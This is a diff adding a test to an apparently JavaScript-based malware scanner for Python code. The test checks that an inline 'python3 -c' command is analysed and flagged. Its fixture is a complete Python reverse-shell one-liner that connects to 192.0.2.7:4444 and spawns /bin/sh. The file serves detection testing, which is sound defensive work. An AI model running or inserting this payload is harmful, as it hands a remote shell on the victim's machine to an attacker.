@@ -184,3 +184,17 @@ test('exec of a string built by a XOR loop over a long constant, through an alia
   assert.equal(ruleOf(list, 'exec-custom-decoder')?.severity, 'high', 'runs on import');
   assert.equal(ruleOf(list, 'dynamic-code-exec'), undefined, 'out is not the constant ""');
 });
+
+test('the code of a python -c command line is analysed as a file, with the trigger of the call that runs it', () => {
+  const shell =
+    "import socket,subprocess,os;s=socket.socket();s.connect(('192.0.2.7',4444));os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);subprocess.call(['/bin/sh','-i'])";
+  const source = `import os\ndef serve():\n    os.system("python3 -c \\"${shell}\\"")\n`;
+  const reports = analyzePythonFile('demo/main.py', new TextEncoder().encode(source));
+  const inline = reports.find((report) => report.path === 'demo/main.py#decoded-1');
+  assert.ok(inline, 'the inline code is a virtual file');
+  assert.ok(inline.egress, 'it connects out');
+  assert.ok(
+    inline.findings.some((f) => f.severity === 'high' || f.severity === 'critical'),
+    `a reverse shell is high: ${inline.findings.map((f) => `${f.rule}:${f.severity}`).join(', ')}`,
+  );
+});
